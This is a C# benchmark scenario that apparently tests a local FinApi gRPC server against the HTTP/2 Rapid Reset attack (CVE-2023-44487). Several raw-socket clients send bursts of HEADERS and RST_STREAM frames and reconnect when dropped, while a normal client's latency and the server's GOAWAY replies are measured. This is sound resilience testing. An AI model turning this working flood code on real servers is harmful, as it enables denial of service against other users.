using System.Buffers.Binary;
using System.Diagnostics;
using System.Globalization;
using System.Net.Sockets;
using FinApi.Bench.Load;
using FinApi.Bench.Report;
using FinApi.Bench.Scenarios;
using FinApi.Bench.Servers;
using FinApi.Contracts.V1;
using Grpc.Net.Client;

namespace FinApi.Bench.Attacks;

/// <summary>
/// Rapid reset (CVE-2023-44487) from several connections that come again, beside a client that means well.
/// </summary>
internal static class ResetAttack
{
    private const int Attackers = 4;
    private const int Burst = 50;
    private const double Mebi = 1_024 * 1_024;

    // A few per thousand calls wait for a core of the two that the attackers use as well.
    private const double MaxWaitMilliseconds = 250;

    public static IReadOnlyList<Scenario> All { get; } =
    [
        new(
            "resets",
            $"{Attackers} clients that open streams and reset them at once, and connect again when ended",
            RunAsync),
    ];

    private static async Task<IReadOnlyList<Result>> RunAsync(BenchContext context)
    {
        await using var finApi = await FinApiServer.StartAsync(context.NewFolder());
        var server = finApi.Process;
        var tally = new ResetTally();
        using var time = new CancellationTokenSource(context.Settings.AttackTime, TimeProvider.System);
        var attackers = Enumerable.Range(0, Attackers)
            .Select(_ => Task.Run(() => AttackAsync(server.Grpc, finApi.Key, tally, time.Token)))
            .ToArray();
        var latency = await CallAsync(server.Grpc, time.Token);
        await Task.WhenAll(attackers);
        var (worst, resident) = (latency.Percentile(0.999), server.ResidentBytes / Mebi);
        return
        [
            new Result("resets", All[0].What)
            {
                Failure = tally.Ended < tally.Connections - Attackers ? "connections are not ended with GOAWAY."
                    : worst > MaxWaitMilliseconds ? "others wait."
                    : null,
                Notes =
                [
                    string.Create(
                        CultureInfo.InvariantCulture,
                        $"{tally.Resets:N0} resets in {context.Settings.AttackTime.TotalSeconds:F0} s over "
                        + $"{tally.Connections:N0} connections, {tally.Ended:N0} of them ended with GOAWAY. Beside it "
                        + $"{latency.Count:N0} calls of another client: p50 {latency.Percentile(0.5):F1} ms, p99 "
                        + $"{latency.Percentile(0.99):F1}, p99.9 {worst:F1}; resident memory {resident:F0} MiB."),
                ],
            },
        ];
    }

    private static async Task<Histogram> CallAsync(Uri address, CancellationToken stop)
    {
        var latency = new Histogram();
        using var channel = GrpcChannel.ForAddress(address);
        var client = new Status.StatusClient(channel);
        while (!stop.IsCancellationRequested)
        {
            var start = Stopwatch.GetTimestamp();
            await client.GetStatusAsync(new GetStatusRequest(), cancellationToken: CancellationToken.None);
            latency.Add((long)Stopwatch.GetElapsedTime(start).TotalMicroseconds);
        }

        return latency;
    }

    private static async Task AttackAsync(Uri address, string key, ResetTally tally, CancellationToken stop)
    {
        var headers = Http2Frames.CallHeaders("/finapi.v1.MarketData/GetQuote", key);
        while (!stop.IsCancellationRequested)
        {
            using var tcp = new TcpClient();
            await tcp.ConnectAsync(address.Host, address.Port, CancellationToken.None);
            Interlocked.Increment(ref tally.Connections);
            var reading = ReadAsync(tcp.GetStream(), tally);
            try
            {
                await tcp.GetStream().WriteAsync(Http2Frames.Preface(), CancellationToken.None);
                for (var stream = 1; !stop.IsCancellationRequested && !reading.IsCompleted; stream += 2 * Burst)
                {
                    await tcp.GetStream().WriteAsync(BurstOf(stream, headers), CancellationToken.None);
                    Interlocked.Add(ref tally.Resets, Burst);
                }
            }
            catch (IOException)
            {
                // The server has ended it.
            }

            tcp.Client.Shutdown(SocketShutdown.Send);
            await reading;
        }
    }

    private static byte[] BurstOf(int first, byte[] headers) =>
    [
        .. Enumerable.Range(0, Burst).SelectMany(i => (byte[])
        [
            .. Http2Frames.HeadersFrame(first + (2 * i), headers),
            .. Http2Frames.Frame(Http2Frames.ResetStream, 0, first + (2 * i), [0, 0, 0, 8]),
        ]),
    ];

    private static async Task ReadAsync(NetworkStream connection, ResetTally tally)
    {
        var header = new byte[Http2Frames.HeaderLength];
        try
        {
            while (true)
            {
                await connection.ReadExactlyAsync(header, CancellationToken.None);
                var payload = new byte[BinaryPrimitives.ReadInt32BigEndian(header) >>> 8];
                await connection.ReadExactlyAsync(payload, CancellationToken.None);
                if (header[3] == Http2Frames.GoAway)
                {
                    Interlocked.Increment(ref tally.Ended);
                    return;
                }
            }
        }
        catch (IOException)
        {
            // Ended without a word.
        }
    }

    private sealed class ResetTally
    {
        public long Resets;
        public long Connections;
        public long Ended;
    }
}
